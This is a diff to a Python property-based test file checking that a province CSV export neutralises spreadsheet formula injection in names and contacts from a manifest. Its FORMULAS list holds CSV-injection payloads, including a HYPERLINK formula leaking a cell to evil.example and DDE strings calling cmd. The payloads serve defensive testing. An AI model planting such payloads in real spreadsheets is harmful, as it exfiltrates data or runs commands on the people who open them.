@@ -15,9 +15,13 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from checks.province.summary import UnitLine, province_csv
+from checks.province.manifest import Manifest, SkippedRow
+from checks.province.outputs import follow_up_rows, unit_rows
+from checks.province.summary import province
+from generator.basics.errors import Location
 from generator.basics.errors import ConfigError
-from generator.basics.textfile import FORMULA_START, csv_rows, csv_text
+from generator.basics.tables import read_table, rows_under
+from generator.basics.textfile import FORMULA_START, csv_text
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"คลิก")', "+1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
             "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1"]
@@ -36,12 +40,19 @@ def test_no_cell_written_starts_a_formula(rows):
 
 
 @settings(max_examples=60, deadline=None)
-@given(unit=cells, detail=cells)
-def test_the_province_csv_neutralises_names_from_the_manifest(unit, detail):
-    line = UnitLine(unit, "https://www.tambon.example/", "error", detail, None, None, (), 0, 0, ())
-    [_, row] = cells_of(province_csv([line]))
-    assert not any(cell.startswith(FORMULA_START) for cell in row)
-    assert row[0] in (unit, "'" + unit)  # the name kept whole, only made inert
+@given(unit=cells, contact=cells, reason=cells)
+def test_the_province_sheets_neutralise_what_the_manifest_says(unit, contact, reason):
+    skipped = SkippedRow(Location("units.csv", 2), unit, "https://www.tambon.example/", "source", reason, (contact,))
+    view = province(Manifest("units.csv", (), (skipped,), ("phone",), ""), [], lambda row: 2569)
+    for rows in (follow_up_rows(view, ("phone",)), unit_rows(view, ("phone",))):
+        [_, row] = cells_of(csv_text(rows))
+        assert not any(cell.startswith(FORMULA_START) for cell in row)
+        assert row[3] in (unit, "'" + unit) or not unit  # the name kept whole, only made inert
+        assert row[4] in (contact, "'" + contact)
+
+
+def csv_rows(path, display: str, header: list[str]) -> list[tuple[int, list[str]]]:
+    return list(rows_under(read_table(path, display), display, header))
 
 
 def write(tmp_path, text: str):
